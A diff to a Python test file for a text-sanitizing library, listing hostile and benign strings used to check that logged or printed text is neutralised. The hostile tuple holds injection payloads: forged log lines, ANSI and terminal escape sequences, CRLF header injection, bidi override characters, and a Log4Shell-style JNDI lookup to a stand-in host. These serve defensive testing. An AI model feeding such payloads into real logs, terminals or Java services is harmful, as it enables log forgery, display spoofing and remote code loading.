@@ -19,7 +19,7 @@ from answerable.text.printable import one_line, printable
 HOSTILE = (
     "a\nINFO fake line", "a\r\nERROR admin login ok", "a\x1b[2J\x1b[31mred", "a\x00b", "a\u2028b", "a\b\b\bb",
     "%0d%0aSet-Cookie: x", '{"level":"fatal"}', "${jndi:ldap://evil.example/a}", "a" * 100_000,
-    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "a\x85b", "a\x9b31mb", "a\u202eb", "a\u2066b", "\x0b\x0c\x1c\x1d\x1e",
+    "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "a\x85b", "a\x9b31mb", "a\u202eb", "a\u2066b", "\x0b\x0c\x1c",
     "a\ud800b", "\x1b]0;title\x07", "\x1bP$q\x1b\\",
 )  # fmt: skip
 BENIGN = ("plain", "日本語", "مرحبا بالعالم", "שלום", "👩‍👩‍👧", "a\tb", "café — “so”", "line\nline", "नमस्ते")
